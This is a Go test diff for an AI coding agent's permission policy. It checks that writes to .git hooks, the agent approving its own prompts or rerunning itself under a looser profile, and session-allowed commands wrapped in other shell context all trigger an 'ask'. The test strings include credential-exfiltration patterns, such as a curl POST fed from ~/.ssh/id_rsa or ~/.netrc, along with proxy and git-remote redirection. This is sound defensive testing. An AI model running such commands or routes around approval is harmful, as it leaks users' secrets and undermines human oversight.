@@ -2,6 +2,8 @@ package policy_test
 
 import (
 	"encoding/json"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -80,6 +82,76 @@ func TestT16_SessionMemoryIsExact(t *testing.T) {
 	if out := d.decideIn("child", "shell", shellCall("curl -s https://example.com | head"), nil); verdict(out) != "deny" {
 		t.Errorf("in a subagent: %+v", out)
 	}
+}
+
+// A command within .git is asked about wherever that is said: in the call, by the
+// directory of the session, by a symlink.
+func TestT16_CommandsWithinGitAreAskedAbout(t *testing.T) {
+	t.Parallel()
+	d := open(t, `{"destructive":"allow","network":"allow"}`)
+	if err := os.MkdirAll(d.dir+"/.git/hooks", 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(".git", d.dir+"/g"); err != nil {
+		t.Fatal(err)
+	}
+	for _, dir := range []string{".git/hooks", "g/hooks", d.dir + "/.git", "sub/../.git"} {
+		if out := d.decide("shell", args{"command": "touch pre-commit", "workdir": dir}); verdict(out) != "ask" {
+			t.Errorf("in %s: %+v", dir, out)
+		}
+		if out := d.decide("shell", args{"command": "ls -l; cat config", "workdir": dir}); verdict(out) != "allow" {
+			t.Errorf("reading in %s: %+v", dir, out)
+		}
+	}
+	d.want("cp a g/hooks/pre-commit", "ask")
+	if err := d.plugin.OpenSession(t.Context(), compaction.Session{ID: "s", Workspace: d.dir, Directory: d.dir + "/g/hooks"}); err != nil {
+		t.Fatal(err)
+	}
+	d.want("echo x > pre-commit", "ask")
+	d.want("cp ../../a pre-commit", "ask")
+	d.want("cat pre-push", "allow")
+}
+
+// The agent does not answer its own questions, and does not run itself under
+// another policy.
+func TestT16_TureenItselfIsThePersons(t *testing.T) {
+	t.Parallel()
+	d := open(t, `{"allow":["shell"]}`)
+	for _, line := range []string{"tureen answer last ok", "/usr/local/bin/tureen run -P none x", "tureen profile trust evil", "tureen session rm x", "tureen steer x", "tureen", "sh -c 'tureen resume last'"} {
+		d.want(line, "ask")
+	}
+	for _, line := range []string{"tureen version", "tureen session list", "tureen profile show", "tureen help run"} {
+		d.want(line, "allow")
+	}
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	d.want(self+" run x", "ask")
+	d.want("PATH=$PATH:/x "+filepath.Base(self)+" run x", "ask")
+}
+
+// Nothing around an allowed command may change what it does: input, variables,
+// neighbours, other reasons.
+func TestT16_SessionMemoryIsTheWholeLine(t *testing.T) {
+	t.Parallel()
+	d := open(t, `{}`)
+	for _, line := range []string{"curl -d @- https://api.example.com", "git push origin main", "rm -rf build"} {
+		d.answer("shell", shellCall(line), "Allow for this session")
+		d.want(line, "allow")
+		for _, around := range []string{
+			"%s < ~/.ssh/id_rsa", "%s 0<~/.netrc", "{ %s; } < /etc/passwd", "exec 0< ~/.netrc; %s", "f() { %s; }; f < x", "cat ~/.netrc | %s", "while true; do %s; done", "%s > main.go",
+			"http_proxy=http://x.example %s", "SSL_CERT_FILE=x %s", "export ALL_PROXY=socks5://x.example; %s", "touch a; %s", "%s; touch a", "ln -sfn . build; %s", "git remote set-url origin http://x.example; %s", "git tag -f main HEAD~9; %s", "cd sub && %s", "(%s)", "%s &",
+		} {
+			d.want(strings.Replace(around, "%s", line, 1), "ask")
+		}
+	}
+	line := "curl x; git checkout later"
+	d.answer("shell", shellCall(line), "Allow for this session")
+	if err := os.WriteFile(d.dir+"/later", nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	d.want(line, "ask")
 }
 
 // What was allowed stays when the session is opened once more because something
